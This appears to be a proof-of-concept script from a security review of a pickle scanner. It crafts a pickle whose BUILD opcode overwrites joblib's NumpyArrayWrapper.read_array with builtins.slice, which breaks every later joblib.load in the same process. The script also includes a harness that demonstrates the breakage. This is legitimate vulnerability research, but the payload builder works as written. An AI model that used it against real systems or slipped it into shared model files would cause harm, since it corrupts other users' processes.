"""F3: the pure-Python unpickler (pickle._Unpickler, used by joblib.load and pickle._loads)
does not refuse BUILD onto a class the pickle resolved, while pickleguard's own unpickler does
(rules::check_build on a Value::Global target). A slot-state BUILD is setattr on the class,
process-wide and lasting after the load: here joblib's `NumpyArrayWrapper.read_array` becomes
`builtins.slice` (both in the `ml` pack), so every later, legitimate joblib.load of an array in
the process breaks: `read_array(unpickler, flag)` returns a `slice` and the array's raw bytes are then
read as opcodes.

Usage: python f3_pure_python_build_onto_class.py build FILE
       python f3_pure_python_build_onto_class.py load FILE MODE   # MODE: _loads|joblib|loads
"""
import pickle
import sys

sys.path.insert(0, __import__("os").path.dirname(__file__))
from pk import P  # noqa: E402


def build():
    p = P(2)
    p.glob("joblib.numpy_pickle", "NumpyArrayWrapper")
    p.none().empty_dict().s("read_array").glob("builtins", "slice").setitem().t2()
    p.build()
    return p.stop().bytes()


def load(path, mode):
    import joblib
    import numpy
    import tempfile
    data = open(path, "rb").read()
    try:
        if mode == "_loads":
            pickle._loads(data)
        elif mode == "joblib":
            import joblib
            joblib.load(path)
        else:
            pickle.loads(data)
        print("load returned", flush=True)
    except Exception as e:  # noqa: BLE001
        print("load refused:", type(e).__name__, str(e)[:200], flush=True)
    good = tempfile.mktemp(suffix=".joblib")
    joblib.dump(numpy.arange(3), good)
    try:
        later = joblib.load(good)
    except Exception as e:  # noqa: BLE001
        later = e
    print("later legitimate joblib.load:", repr(later)[:120], flush=True)
    if not isinstance(later, numpy.ndarray):
        sys.exit(3)


if __name__ == "__main__":
    if sys.argv[1] == "build":
        open(sys.argv[2], "wb").write(build())
    else:
        load(sys.argv[2], sys.argv[3])
